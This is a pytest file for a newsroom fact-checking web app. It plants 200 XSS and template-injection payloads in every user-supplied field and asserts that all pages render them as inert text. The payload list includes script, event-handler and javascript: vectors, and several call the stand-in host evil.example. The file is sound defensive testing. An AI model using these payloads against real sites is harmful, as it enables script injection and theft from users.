"""Two hundred hostile texts in every place where a text of others is shown: on every page they are text, and nothing else."""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote as quoted

import pytest
import sqlalchemy as sa
from lxml import etree, html

from alerts.review import Step
from kiemtin.domain.alerts import Tip
from kiemtin.domain.claims import Claim, EvidenceRelation
from kiemtin.domain.deliveries import DestinationKind
from kiemtin.domain.ratings import Rating
from kiemtin.domain.reviews import Action, Assessment
from kiemtin.domain.scope import ClaimKind, Theme
from kiemtin.domain.staff import Role
from kiemtin.pipeline import newsrooms, reviewing
from kiemtin.pipeline.log import note
from kiemtin.pipeline.newsrooms import Wanted
from kiemtin.store import deliveries as delivery_store
from kiemtin.store import desk as desk_store
from kiemtin.store import outlets as outlet_store
from kiemtin.store import queue as queue_store
from kiemtin.store import tips as tip_store
from tests.support.desk import CATALOG, CHECKER, START, DeskRun, make_alert, open_desk

_SEEDS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x></ScRiPt>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href='javascript:alert(1)'>x</a>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<style>@import'//evil.example'</style>", "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;//evil.example'>", "<form action=//evil.example><button>x", "<object data='javascript:alert(1)'>",
    "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "{{1337*3}}", "{% import 'os' %}", "${1337*3}", "<%= 1337*3 %>", "#{1337*3}",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "<scr\u0000ipt>alert(1)</scr\u0000ipt>".replace("\u0000", "\u00ad"), "';alert(1)//", "\";alert(1)//", "`;alert(1)//",
    "<a\u000bhref=javascript:alert(1)>", "<x contenteditable onblur=alert(1)>", "<template><script>alert(1)</script></template>", "]]><script>alert(1)</script>",
)  # fmt: skip
_WRAPS = ("{}", '"{}', "'{}", '">{}', "'>{} <b>Nước lá sen</b>")
PAYLOADS = [wrap.replace("{}", seed) for seed in _SEEDS for wrap in _WRAPS]
SCRIPTS = {"/static/htmx-2.0.11.min.js", "/static/desk.js"}


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) == 200


@dataclass
class Poisoned:
    """A desk in which everything that others write is hostile, and the pages that show it."""

    run: DeskRun
    pages: list[str]
    corrections: list[str]


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Poisoned]:
    with open_desk(tmp_path_factory.mktemp("poisoned") / "data") as run:
        conn_alerts = _make_alerts(run)
        _make_the_rest(run)
        ids = [row.id for row in run.rows(sa.text("SELECT id FROM corrections"))]  # type: ignore[arg-type]
        destinations = [row.id for row in run.rows(sa.text("SELECT id FROM destinations"))]  # type: ignore[arg-type]
        pages = ["/", "/desk/tips", "/newsrooms", "/log", "/settings", "/corrections", "/sources", *(f"/alerts/{one}" for one in conn_alerts)]
        yield Poisoned(run, pages + [f"/newsrooms/{one}" for one in destinations], ids)


def _make_alerts(run: DeskRun) -> list[str]:
    """Five payloads an alert: in its claim, its evidence, its story's title, the words of people."""
    made = []
    groups = [PAYLOADS[at : at + 5] for at in range(0, len(PAYLOADS), 5)]
    for number, (claim, quote, title, reason, words) in enumerate(groups):
        alert_id = make_alert(run.workspace, f"{claim} {number}", quote=quote, title=title)
        with run.workspace.records.change() as conn:
            held = reviewing.hold(conn, alert_id)
            assert held is not None
            desk_store.save_added(conn, desk_store.Added(held.claim.id, "javascript:alert(1)", words, EvidenceRelation.NOT_ENOUGH_INFO, title), START)
            note(conn, alert_id, Action.DISMISS.value, "x", START, text=words)
        if number % 4 == 0:
            _correct(run, alert_id, reason, words)
        made.append(alert_id)
    return made


def _correct(run: DeskRun, alert_id: str, reason: str, words: str) -> None:
    with run.workspace.records.begin() as conn:
        held = reviewing.hold(conn, alert_id)
    assert held is not None
    cited = tuple(piece.id for piece in held.case.evidence)
    draft = Assessment(Rating.FALSE, f"Lý do {reason}", cited, f"Trả lời {words}", f"Chưa biết {words}")
    for step, role in (
        (Step(Action.RATE, run.version(alert_id), assessment=draft), Role.REVIEWER),
        (Step(Action.APPROVE, run.version(alert_id) + 1), Role.APPROVER),
    ):
        outcome = reviewing.take_step(run.workspace, alert_id, step, run.people[role], START)
        assert hasattr(outcome, "version"), outcome
    if "svg" in reason:
        reviewing.take_step(run.workspace, alert_id, Step(Action.WITHDRAW, run.version(alert_id), words=words), run.people[Role.APPROVER], START)


def _make_the_rest(run: DeskRun) -> None:
    admin = run.people[Role.ADMIN]
    for number, text in enumerate(PAYLOADS[::10]):
        newsrooms.add_destination(run.workspace, Wanted(f"{text}{number}", DestinationKind.FEED, "", frozenset()), admin, START)
    with run.workspace.records.change() as conn:
        for number, text in enumerate(PAYLOADS):
            tip_store.save_tip(conn, Tip(f"t{number}", text, START, Theme.HEALTH))
            desk_store.save_search(conn, run.people[Role.APPROVER].id, text[:60], f"q={number}")
        strange = [
            CHECKER.__class__(f"{text} {number}", CHECKER.kind, "https://x.example", "vi", text, text, text)
            for number, text in enumerate(PAYLOADS[::7])
        ]
        outlet_store.replace_catalog(conn, (*CATALOG, *strange))
        queue_store.save_claims(conn, [Claim("unused", PAYLOADS[0], Theme.HEALTH, ClaimKind.EFFECT)])
        assert delivery_store.load_destinations(conn)


def _assert_harmless(page: str, where: str) -> None:
    document = html.fromstring(page)
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ("iframe", "object", "embed", "style", "base", "math", "template"), f"{where}: {element.tag}"
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{where}: {name}"
            assert not re.match(r"\s*(javascript|data|vbscript):", value, re.IGNORECASE) or name in ("value", "placeholder", "aria-label", "title"), (
                f"{where}: {name}={value}"
            )
            assert name not in ("style", "srcdoc", "formaction"), f"{where}: {name}"
        if element.tag == "script" and element.get("type") != "application/ld+json":
            assert element.get("src") in SCRIPTS and not (element.text or "").strip(), where
    assert "4011" not in page, f"{where}: a template was run"


def test_on_every_page_a_hostile_text_is_text(poisoned: Poisoned) -> None:
    with poisoned.run.browser(Role.APPROVER) as browser:
        for path in (*poisoned.pages, "/?status=all", "/log"):
            answer = browser.get(path)
            assert answer.status_code == 200, path
            _assert_harmless(answer.text, path)


def test_in_public_too_and_its_markup_is_whole(poisoned: Poisoned) -> None:
    with poisoned.run.browser() as anyone:
        for one in poisoned.corrections:
            page = anyone.get(f"/corrections/{one}").text
            _assert_harmless(page, one)
            body = anyone.get(f"/corrections/{one}.json").json()
            for script in html.fromstring(page).xpath("//script[@type='application/ld+json']"):
                assert json.loads(script.text)["claimReviewed"] == body["statement"]
            assert anyone.get(f"/corrections/{one}.docx").status_code == 200
        feed = etree.fromstring(anyone.get("/corrections.atom").content)
        assert len(feed.findall("{http://www.w3.org/2005/Atom}entry")) == len(poisoned.corrections)
        assert len(anyone.get("/corrections.json").json()["items"]) == len(poisoned.corrections)


def test_what_is_sent_back_to_its_sender_is_text(poisoned: Poisoned) -> None:
    with poisoned.run.browser(Role.APPROVER) as browser:
        for payload in PAYLOADS[::4]:
            _assert_harmless(browser.client.get("/", params={"q": payload}).text, payload)
            _assert_harmless(browser.client.get("/login", params={"next": payload}).text if payload.isprintable() else "<p></p>", payload)
        for payload in PAYLOADS[::20]:
            _assert_harmless(browser.send("/check", text=payload).text, payload)
            _assert_harmless(browser.client.post("/tips", data={"text": payload, "form": "x"}).text, payload)
            _assert_harmless(browser.client.get(f"/alerts/{quoted(payload, safe='')}").text, payload)


def test_no_template_holds_an_inline_script_or_style() -> None:
    for path in (Path(__file__).parents[2] / "kiemtin" / "desk" / "templates").glob("*.html.j2"):
        text = path.read_text("utf-8")
        assert not re.search(r"<style|\sstyle=|\son\w+=|javascript:", text), path.name
        assert [tag for tag in re.findall(r"<script[^>]*>", text) if "src=" not in tag and "ld+json" not in tag] == [], path.name
        assert "| safe }" not in text and "autoescape false" not in text, path.name
